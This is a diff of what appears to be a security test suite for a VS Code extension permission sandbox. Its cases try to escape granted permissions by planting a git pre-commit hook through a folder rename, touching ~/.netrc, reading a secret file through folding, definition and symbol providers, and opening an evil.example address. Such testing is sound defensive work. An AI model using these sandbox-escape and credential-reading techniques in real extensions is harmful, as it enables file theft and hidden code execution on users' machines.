@@ -4,17 +4,17 @@
 
 const { a, grant } = require('./lib.js')
 const r = more => ({ round: 12, ...more })
-const show = more => r({ ...more })
 
 module.exports = [
   a('hooks of git, moved in with their folder by the editor', async ({ vscode, T, victim }) => {
-    const at = p => vscode.Uri.file(T.out + p)
+    // Each kind has a folder of its own.
+    const at = p => vscode.Uri.file(T.mark + '.d' + p)
     const { fs } = vscode.workspace
-    await fs.createDirectory(at('/p/x/hooks'))
-    await fs.writeFile(at('/p/x/hooks/pre-commit'), new TextEncoder().encode('#!/bin/sh'))
-    await fs.rename(at('/p/x'), at('/p/.git'))
-    return victim('there', T.out + '/p/.git/hooks/pre-commit') ? 'yes' : 'no'
-  }, r({ inv: 11, ...grant({ surface: 'files.write', resource: '/**' }, { surface: 'files.read', resource: '/**' }) })),
+    await fs.createDirectory(at('/x/hooks'))
+    await fs.writeFile(at('/x/hooks/pre-commit'), new TextEncoder().encode('#!/bin/sh'))
+    await fs.rename(at('/x'), at('/.git'))
+    return victim('there', T.mark + '.d/.git/hooks/pre-commit') ? 'yes' : 'no'
+  }, r({ round: 12, inv: 11, ...grant({ surface: 'files.write', resource: '/**' }, { surface: 'files.read', resource: '/**' }) })),
   a('a sensitive file, copied with the folder it lies in by the editor', async ({ vscode, require, T, victim, text }) => {
     const home = require('os').homedir()
     victim('writes', home + '/.netrc')
@@ -56,6 +56,27 @@ module.exports = [
     await new Promise(ok => setTimeout(ok, 800))
     return got
   }, r({ ...grant({ surface: 'command', resource: 'editor.action.showReferences' }) })),
+  a('reads any file, as the place where something is defined', async ({ vscode, T }) => {
+    let got = 'no'
+    vscode.languages.registerFoldingRangeProvider([{ scheme: 'file' }], { provideFoldingRanges: d => {
+      if (d.fileName === T.secret) try { got = d.getText() } catch (e) { got = e.message }
+      return []
+    } })
+    vscode.languages.registerDefinitionProvider('*', { provideDefinition: () =>
+      new vscode.Location(vscode.Uri.file(T.secret), new vscode.Range(0, 0, 0, 1)) })
+    await new Promise(ok => setTimeout(ok, 1500))
+    return got
+  }, r({ round: 12 })),
+  a('reads any notebook, by the symbols of its cells', async ({ vscode, T }) => {
+    let got = 'no'
+    vscode.languages.registerDocumentSymbolProvider('*', { provideDocumentSymbols: d => {
+      if (d.uri.path === T.secret) try { got = d.getText() } catch (e) { got = e.message }
+      return []
+    } })
+    await vscode.commands.executeCommand('vscode.openWith', vscode.Uri.file(T.secret), 'x')
+    await new Promise(ok => setTimeout(ok, 1000))
+    return got
+  }, r({ round: 12, ...grant({ surface: 'command', resource: 'vscode.openWith' }) })),
   a('an address elsewhere, by the command that opens files', async ({ vscode }) => {
     await vscode.commands.executeCommand('vscode.open', vscode.Uri.parse('https://evil.example/rf-marked'))
     return 'done'
@@ -105,4 +126,3 @@ module.exports = [
     return 'done'
   }, r({ inv: 11, goal: 'call', call: 'MainThreadTextEditors.$tryApplyEdits marked', ...grant('documents') })),
 ]
-void show
